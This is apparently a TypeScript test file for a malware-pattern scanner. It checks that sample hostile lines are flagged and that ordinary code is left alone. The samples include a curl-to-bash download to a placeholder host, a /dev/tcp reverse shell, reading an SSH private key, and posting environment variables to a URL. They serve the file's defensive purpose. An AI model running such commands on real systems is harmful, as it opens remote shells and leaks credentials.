import assert from "node:assert/strict";
import { test } from "node:test";
import * as v from "valibot";
import { RULE_SEVERITIES } from "#lib/core/schema/rule-finding.ts";
import { scanSource } from "#lib/modules/scan/rules/source.ts";
import patterns from "#lib/modules/scan/rules/source-patterns.json";
import { effortMs } from "#test/kit/effort.ts";

test("what programs that steal or load things look like is found, with its line", () => {
  const rows: [string, string][] = [
    ["source.decoded_code", 'eval(Buffer.from("YWxlcnQ=", "base64").toString())'],
    ["source.decoded_code", "exec(base64.b64decode(payload))"],
    ["source.download_and_run", 'execSync("curl -s https://x.invalid/i.sh | bash")'],
    ["source.reverse_shell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
    ["source.credentials_read", 'readFileSync(join(home, "/.ssh/id_rsa"))'],
    ["source.environment_sent", "fetch(url, { body: JSON.stringify(process.env) })"],
    ["source.environment_sent", "requests.post(url, data=json.dumps(dict(os.environ)))"],
    ["source.dead_drop", 'const to = "https://webhook.site/1234";'],
    ["source.hidden_characters", "if (admin\u202e) {"],
    ["source.obfuscated", `var s = "${"\\x41".repeat(80)}"`],
  ];
  for (const [rule, line] of rows) {
    const found = scanSource("src/a.js", `const a = 1;\n${line}\n`);
    assert.deepEqual(
      found.map((f) => [f.rule, f.location]),
      [[rule, "src/a.js:2"]],
      line,
    );
  }
});

test("ordinary programs are let be, and hostile ones take no longer", () => {
  const ordinary = [
    "const port = process.env.PORT ?? 3000;",
    "const run = (cmd) => spawn(cmd, { env: process.env });",
    'const text = Buffer.from(data, "base64").toString();',
    "new Function('a', 'return a + 1')",
    "await fetch(`https://api.example.com/v1/${id}`);",
  ];
  for (const line of ordinary) assert.deepEqual(scanSource("a.js", line), [], line);
  for (const piece of ["curl ", "_0x1234 ", "\\x41", "eval(", "write.", "socket", "a"]) {
    const effort = effortMs(() => scanSource("a.js", piece.repeat(1_000_000 / piece.length)));
    assert.ok(effort < 5000, `${piece}: ${effort} ms`);
  }
});

test("every row of the table of patterns has the type that the scan takes it for, under a name of its own", () => {
  const Row = v.strictObject({
    rule: v.pipe(v.string(), v.startsWith("source.")),
    severity: v.picklist(RULE_SEVERITIES),
    explanation: v.string(),
    pattern: v.string(),
    flags: v.exactOptional(v.picklist(["i", "u"])),
  });

  for (const row of patterns) assert.deepEqual(v.parse(Row, row), row);
  assert.equal(new Set(patterns.map(({ rule }) => rule)).size, patterns.length);
});
